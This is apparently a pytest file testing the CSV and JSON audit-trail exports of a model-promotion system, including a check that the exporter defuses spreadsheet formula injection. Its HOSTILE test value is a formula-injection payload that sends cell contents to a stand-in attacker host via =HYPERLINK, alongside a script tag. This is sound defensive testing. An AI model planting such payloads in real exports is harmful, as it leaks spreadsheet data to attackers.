"""The exports: every entry in them, readable by another parser, and nothing in them that a spreadsheet would run."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path

import polars as pl
import pytest
import rfc8785

from audit_kit import Story, day, whole
from slipway.audit.tables import COLUMNS, csv_text, entries_csv, entries_json, inert
from slipway.audit.trail import Trail

HOSTILE = '=HYPERLINK("https://evil.invalid?"&A1)\nsecond, "line" | <script>'


@pytest.fixture(scope="module")
def trail(tmp_path_factory: pytest.TempPathFactory) -> Trail:
    return whole(tmp_path_factory.mktemp("story"))


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_entries_csv__a_row_for_every_entry(trail: Trail) -> None:
    found = rows(entries_csv(trail))
    assert [row["sequence"] for row in found] == [str(number) for number in range(13)]
    assert [row["digest"] for row in found] == [record.digest for record in trail.records]
    promoted = found[9]
    assert (promoted["event"], promoted["model_version"], promoted["environment"]) == ("promotion", "2", "production")
    assert (promoted["previous_version"], promoted["actor"]) == ("1", "hubot")
    assert promoted["occurred_at"] == "2026-11-10T21:00:00.000Z"
    names = [each["name"] for each in json.loads(found[5]["evidence"])]
    assert names == ["provenance.intoto.json", "provenance.json", "report.json"]
    assert (found[5]["issues"], found[5]["pull_request"], found[5]["fork"]) == ("#12", "7", "false")


def test_entries_csv__another_reader_reads_the_same(trail: Trail) -> None:
    frame = pl.read_csv(io.BytesIO(entries_csv(trail).encode()), infer_schema=False)
    assert tuple(frame.columns) == COLUMNS and frame.height == 13
    assert frame["justification"].to_list()[5] == "Wider trees\n\nFixes #12"


def test_entries__of_one_model(tmp_path: Path) -> None:
    story = Story(tmp_path)
    story.place("promotion", "1", day(0))
    story.event("promotion", "1", day(1), model="other")
    trail = story.read()
    assert [row["model"] for row in rows(entries_csv(trail, "other"))] == ["other"]
    assert [each["entry"]["model"] for each in json.loads(entries_json(trail, "flights"))["entries"]] == ["flights"]
    assert len(json.loads(entries_json(trail))["entries"]) == 3


def test_entries_json__holds_what_the_digests_are_taken_over(trail: Trail) -> None:
    content = json.loads(entries_json(trail))
    assert content["head"] == trail.head
    for each in content["entries"]:
        assert each["digest"] == f"sha256:{hashlib.sha256(rfc8785.dumps(each['entry'])).hexdigest()}"


def test_entries_csv__runs_nothing(tmp_path: Path) -> None:
    story = Story(tmp_path)
    story.train("1", day(0), story.run("1", title=HOSTILE, body="", actor="@team", ref="+1"))
    text = entries_csv(story.read())
    row = rows(text)[1]
    assert row["justification"] == "'" + HOSTILE
    assert (row["actor"], row["ref"]) == ("'@team", "'+1")
    for row in rows(text):
        assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@a", "\tx", "\rx", " =1", "\n@a", -1, -0.5])
def test_inert__gets_an_apostrophe(cell: object) -> None:
    assert inert(cell) == f"'{cell}"


@pytest.mark.parametrize(("cell", "text"), [("a=1", "a=1"), ("", ""), (None, ""), (True, "true"), (3, "3")])
def test_inert__leaves_the_rest(cell: object, text: str) -> None:
    assert inert(cell) == text


def test_csv_text__is_rfc_4180() -> None:
    assert csv_text(["a", "b"], [['x "y"', "1,2"], ["two\nlines", None]]) == (
        'a,b\r\n"x ""y""","1,2"\r\n"two\nlines",\r\n'
    )
